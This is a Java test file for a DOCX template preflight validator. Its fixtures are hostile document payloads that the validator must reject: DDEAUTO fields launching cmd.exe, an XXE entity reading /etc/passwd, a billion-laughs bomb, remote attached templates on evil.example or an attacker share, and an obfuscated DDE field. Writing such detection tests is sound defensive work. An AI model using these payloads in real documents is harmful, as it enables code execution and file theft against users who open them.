// SPDX-License-Identifier: Apache-2.0
package org.jixiao.docx.internal.preflight;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.approvaltests.Approvals;
import org.jixiao.docx.RawZip;
import org.jixiao.docx.TestDocx;
import org.jixiao.validation.Problem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TemplatePreflightTest {
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String BEGIN = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    private static final String SEPARATE = "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>";
    private static final String END = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    static List<String> codes(byte[] docx) {
        return TemplatePreflight.check(docx).stream().map(Problem::code).toList();
    }

    private static String instr(String text) {
        return "<w:r><w:instrText xml:space=\"preserve\">" + text + "</w:instrText></w:r>";
    }

    @Test
    void cleanMinimalDocxHasNoProblems() {
        assertEquals(List.of(), TemplatePreflight.check(TestDocx.docx().bytes()));
    }

    @Test
    void cleanDocumentWithHyperlinkFieldsAndStylesHasNoProblems() {
        byte[] docx = TestDocx.docx()
                .body("<w:p><w:hyperlink r:id=\"rIdLink\"><w:r><w:t>财政部</w:t></w:r></w:hyperlink>"
                        + BEGIN + instr(" PAGE ") + SEPARATE + "<w:r><w:t>1</w:t></w:r>" + END
                        + "<w:fldSimple w:instr=\" MERGEFIELD 单位名称 \"><w:r><w:t>«单位名称»</w:t></w:r></w:fldSimple></w:p>")
                .relationship("<Relationship Id=\"rIdLink\" Type=\"" + REL + "hyperlink\""
                        + " Target=\"https://www.mof.gov.cn/\" TargetMode=\"External\"/>")
                .styles(
                        "<w:style w:styleId=\"Normal\"/><w:style w:styleId=\"Heading1\"><w:basedOn w:val=\"Normal\"/></w:style>"
                                + "<w:style w:styleId=\"Heading2\"><w:basedOn w:val=\"Heading1\"/></w:style>")
                .settings("<w:evenAndOddHeaders/>")
                .bytes();
        assertEquals(List.of(), TemplatePreflight.check(docx));
    }

    @Test
    void approvedProblemsOfAHostileTemplate() {
        byte[] docx = TestDocx.docx()
                .body("<w:p><w:r><w:t>正文</w:t></w:r></w:p>"
                        + "<w:p>" + BEGIN + instr(" DDE")
                        + instr("AUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc\"")
                        + SEPARATE + "<w:r><w:t>x</w:t></w:r>" + END + "</w:p>")
                .relationship(
                        "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/"
                                + "vbaProject\" Target=\"vbaProject.bin\"/>")
                .part("word/vbaProject.bin", "\u00d0\u00cfVBA")
                .settings("<w:attachedTemplate r:id=\"rIdTpl\"/>")
                .part(
                        "word/_rels/settings.xml.rels",
                        TestDocx.DECL
                                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rIdTpl\" Type=\"" + REL + "attachedTemplate\""
                                + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")
                .styles("<w:style w:styleId=\"A\"><w:basedOn w:val=\"B\"/></w:style>"
                        + "<w:style w:styleId=\"B\"><w:basedOn w:val=\"A\"/></w:style>")
                .mainContentType("application/vnd.ms-word.document.macroEnabled.main+xml")
                .bytes();
        Approvals.verify(ProblemText.of(TemplatePreflight.check(docx)));
    }

    // --- DOCTYPE and entities -------------------------------------------------------------------

    private static final String XXE = "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/document.xml",
                "word/styles.xml",
                "word/settings.xml",
                "word/header1.xml",
                "_rels/.rels",
                "[Content_Types].xml",
                "customXml/item1.xml",
                "word/_rels/document.xml.rels"
            })
    void doctypeWithExternalEntityIsRejectedInAnyPart(String part) {
        TestDocx d = TestDocx.docx()
                .styles("<w:style w:styleId=\"Normal\"/>")
                .settings("")
                .header("rIdH", "header1.xml", "<w:p/>")
                .part("customXml/item1.xml", TestDocx.DECL + "<root/>");
        String original = d.entries().get(part);
        assertTrue(original.startsWith(TestDocx.DECL), part);
        d.replace(part, original.replace(TestDocx.DECL, TestDocx.DECL + XXE).replace("<root/>", "<root>&xxe;</root>"));
        List<Problem> problems = TemplatePreflight.check(d.bytes());
        assertTrue(
                problems.stream()
                        .anyMatch(p -> p.code().equals("template.doctype")
                                && p.template().part().equals(part)),
                problems::toString);
    }

    @Test
    void doctypeFoundByTheParserWhenTheRawScanCannotSeeIt() {
        // UTF-16: the byte scan for "<!DOCTYPE" misses it; the parser's DTD event does not.
        String xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + XXE + "<w:document " + TestDocx.NS
                + "><w:body/></w:document>";
        byte[] utf16 = xml.getBytes(StandardCharsets.UTF_16);
        RawZip zip = new RawZip();
        TestDocx.docx()
                .entries()
                .forEach((n, c) ->
                        zip.add(n, n.equals("word/document.xml") ? utf16 : c.getBytes(StandardCharsets.UTF_8)));
        List<Problem> problems = TemplatePreflight.check(zip.bytes());
        assertEquals(
                List.of("template.doctype"),
                problems.stream().map(Problem::code).toList());
        assertTrue(
                problems.get(0).template().location().startsWith("line 1"),
                problems.get(0).template().location());
    }

    @Test
    void billionLaughsIsRejectedQuicklyWithoutExpansion() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol")
                    .append(i)
                    .append(" \"")
                    .append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10))
                    .append("\">");
        }
        dtd.append("]>");
        byte[] docx = TestDocx.docx()
                .replace(
                        "word/document.xml",
                        TestDocx.DECL + dtd + "<w:document " + TestDocx.NS
                                + "><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
                .bytes();
        Budget budget = Budget.start();
        assertEquals(List.of("template.doctype"), codes(docx));
        budget.assertWithin(1_000, 64L << 20);
    }

    // --- Active and external content -------------------------------------------------------------

    @Test
    void vbaProjectIsRejected() {
        byte[] docx = TestDocx.docx()
                .part("word/vbaProject.bin", "\u00d0\u00cf\u0011\u00e0")
                .bytes();
        assertEquals(List.of("template.macro"), codes(docx));
    }

    @Test
    void macroEnabledContentTypeIsRejected() {
        byte[] docx = TestDocx.docx()
                .mainContentType("application/vnd.ms-word.document.macroEnabled.main+xml")
                .bytes();
        assertEquals(List.of("template.macro"), codes(docx));
    }

    @Test
    void externalAttachedTemplateIsRejected() {
        byte[] docx = TestDocx.docx()
                .settings("<w:attachedTemplate r:id=\"rId1\"/>")
                .part(
                        "word/_rels/settings.xml.rels",
                        TestDocx.DECL
                                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rId1\" Type=\"" + REL + "attachedTemplate\""
                                + " Target=\"file://\\\\attacker\\share\\t.dotm\" TargetMode=\"External\"/></Relationships>")
                .bytes();
        List<Problem> problems = TemplatePreflight.check(docx);
        assertEquals(
                List.of("template.external-relationship"),
                problems.stream().map(Problem::code).toList());
        assertEquals("word/settings.xml", problems.get(0).template().part());
        assertEquals("relationship rId1", problems.get(0).template().location());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "image",
                "subDocument",
                "oleObject",
                "frame",
                "http://schemas.microsoft.com/office/2007/relationships/media"
            })
    void externalTargetsOtherThanHyperlinksAreRejected(String type) {
        String fullType = type.startsWith("http") ? type : REL + type;
        byte[] docx = TestDocx.docx()
                .relationship("<Relationship Id=\"rIdX\" Type=\"" + fullType + "\""
                        + " Target=\"http://evil.example/x\" TargetMode=\"External\"/>")
                .bytes();
        assertEquals(List.of("template.external-relationship"), codes(docx));
    }

    @Test
    void externalHyperlinkIsAllowed() {
        byte[] docx = TestDocx.docx()
                .relationship("<Relationship Id=\"rIdL\" Type=\"" + REL + "hyperlink\""
                        + " Target=\"https://www.gov.cn/\" TargetMode=\"External\"/>")
                .bytes();
        assertEquals(List.of(), codes(docx));
    }

    @Test
    void activeXControlIsRejected() {
        byte[] docx = TestDocx.docx()
                .body("<w:p><w:r><w:object><w:control r:id=\"rIdAx\" w:name=\"CheckBox1\"/></w:object></w:r></w:p>")
                .related(
                        "rIdAx",
                        "control",
                        "word/activeX/activeX1.xml",
                        "application/vnd.ms-office.activeX+xml",
                        "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>")
                .bytes();
        assertEquals(List.of("template.activex", "template.activex"), codes(docx));
    }

    @Test
    void oleObjectIsRejected() {
        byte[] docx = TestDocx.docx()
                .body(
                        "<w:p><w:r><w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rIdOle\"/></w:object></w:r></w:p>")
                .relationship("<Relationship Id=\"rIdOle\" Type=\"" + REL
                        + "oleObject\" Target=\"embeddings/oleObject1.bin\"/>")
                .part("word/embeddings/oleObject1.bin", "\u00d0\u00cf\u0011\u00e0")
                .bytes();
        List<Problem> problems = TemplatePreflight.check(docx);
        assertEquals(
                List.of("template.ole", "template.ole"),
                problems.stream().map(Problem::code).toList());
        assertEquals("paragraph 1", problems.get(0).template().location());
        assertEquals(
                "word/embeddings/oleObject1.bin", problems.get(1).template().part());
    }

    @Test
    void altChunkIsRejected() {
        byte[] docx = TestDocx.docx()
                .body("<w:p/><w:altChunk r:id=\"rIdAlt\"/>")
                .related("rIdAlt", "aFChunk", "word/afchunk.htm", "text/html", "<html><body>x</body></html>")
                .bytes();
        assertEquals(List.of("template.altchunk", "template.altchunk"), codes(docx));
    }

    // --- Fields ---------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "IMPORT", "LINK", "ddeauto"})
    void forbiddenFieldSplitOverInstructionRunsIsRejected(String keyword) {
        int half = keyword.length() / 2;
        byte[] docx = TestDocx.docx()
                .body("<w:p><w:r><w:t>a</w:t></w:r></w:p><w:p>" + BEGIN
                        + instr(" " + keyword.substring(0, half)) + "<w:proofErr w:type=\"spellStart\"/>"
                        + instr(keyword.substring(half) + " \"http://evil.example/x\" ") + SEPARATE
                        + "<w:r><w:t>x</w:t></w:r>" + END + "</w:p>")
                .bytes();
        List<Problem> problems = TemplatePreflight.check(docx);
        assertEquals(
                List.of("template.field.forbidden"),
                problems.stream().map(Problem::code).toList());
        assertEquals("paragraph 2", problems.get(0).template().location());
        assertTrue(problems.get(0).value().startsWith(keyword), problems.get(0).value());
    }

    @Test
    void forbiddenSimpleFieldIsRejected() {
        byte[] docx = TestDocx.docx()
                .footer(
                        "rIdF",
                        "footer1.xml",
                        "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d \"/></w:p>")
                .bytes();
        List<Problem> problems = TemplatePreflight.check(docx);
        assertEquals(
                List.of("template.field.forbidden"),
                problems.stream().map(Problem::code).toList());
        assertEquals("word/footer1.xml", problems.get(0).template().part());
    }

    @Test
    void forbiddenFieldNestedInAnotherFieldIsRejected() {
        byte[] docx = TestDocx.docx()
                .body("<w:p>" + BEGIN + instr("IF 1 = 1 \"") + BEGIN + instr("INCLUDETEXT c:\\\\x.docx") + END
                        + instr("\" \"\"") + END + "</w:p>")
                .bytes();
        assertEquals(List.of("template.field.forbidden"), codes(docx));
    }

    @Test
    void fieldWhoseNameIsComputedByANestedFieldIsRejected() {
        // { {QUOTE 68 68 69 65 85 84 79} c:\\windows\\system32\\cmd.exe } spells DDEAUTO at run time.
        byte[] docx = TestDocx.docx()
                .body("<w:p>" + BEGIN + BEGIN + instr("QUOTE 68 68 69 65 85 84 79") + END
                        + instr(" c:\\\\windows\\\\system32\\\\cmd.exe ") + END + "</w:p>")
                .bytes();
        assertEquals(List.of("template.field.forbidden"), codes(docx));
    }

    // --- Styles ---------------------------------------------------------------------------------

    @Test
    void styleBasedOnItselfIsRejected() {
        byte[] docx = TestDocx.docx()
                .styles("<w:style w:styleId=\"Normal\"><w:basedOn w:val=\"Normal\"/></w:style>")
                .bytes();
        List<Problem> problems = TemplatePreflight.check(docx);
        assertEquals(
                List.of("template.styles.cyclic-based-on"),
                problems.stream().map(Problem::code).toList());
        assertEquals("Normal → Normal", problems.get(0).value());
    }

    @Test
    void stylesBasedOnEachOtherAreRejectedNamingBoth() {
        byte[] docx = TestDocx.docx()
                .styles("<w:style w:styleId=\"正文\"/>"
                        + "<w:style w:styleId=\"B\"><w:basedOn w:val=\"A\"/></w:style>"
                        + "<w:style w:styleId=\"A\"><w:basedOn w:val=\"B\"/></w:style>"
                        + "<w:style w:styleId=\"C\"><w:basedOn w:val=\"D\"/></w:style>"
                        + "<w:style w:styleId=\"D\"><w:basedOn w:val=\"E\"/></w:style>"
                        + "<w:style w:styleId=\"E\"><w:basedOn w:val=\"C\"/></w:style>")
                .bytes();
        List<Problem> problems = TemplatePreflight.check(docx);
        assertEquals(
                List.of("A → B → A", "C → D → E → C"),
                problems.stream().map(Problem::value).toList());
        assertTrue(problems.get(0).messageZh().contains("A → B → A"));
        assertTrue(problems.get(0).messageEn().contains("A → B → A"));
    }

    @Test
    void longStyleChainCostsNoStack() {
        StringBuilder styles = new StringBuilder();
        int n = 50_000;
        for (int i = 0; i < n; i++) {
            styles.append("<w:style w:styleId=\"s")
                    .append(i)
                    .append("\"><w:basedOn w:val=\"s")
                    .append((i + 1) % n)
                    .append("\"/></w:style>");
        }
        List<Problem> problems = TemplatePreflight.check(
                TestDocx.docx().styles(styles.toString()).bytes());
        assertEquals(
                List.of("template.styles.cyclic-based-on"),
                problems.stream().map(Problem::code).toList());
    }
}
